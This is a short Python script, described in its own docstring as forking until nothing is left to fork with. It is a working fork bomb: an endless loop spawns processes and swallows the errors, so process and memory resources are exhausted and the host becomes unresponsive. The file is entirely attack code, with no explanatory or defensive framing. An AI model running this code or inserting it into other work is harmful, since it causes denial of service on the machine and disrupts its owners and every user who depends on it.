"""Forks until nothing is left to fork with."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
